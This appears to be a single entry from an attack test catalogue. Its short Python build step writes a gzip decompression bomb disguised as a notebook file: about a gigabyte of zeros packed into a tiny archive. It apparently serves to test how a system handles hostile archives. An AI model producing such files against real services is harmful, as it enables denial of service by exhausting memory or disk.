# attack: the notebook is a zipped gigabyte of nothing
# family: archives
# base: blank
# points: 0
# %% build
import zlib
packer = zlib.compressobj(9, zlib.DEFLATED, 31)
data = b"".join(packer.compress(bytes(1 << 20)) for number in range(1_000)) + packer.flush()
(folder / name).write_bytes(data)
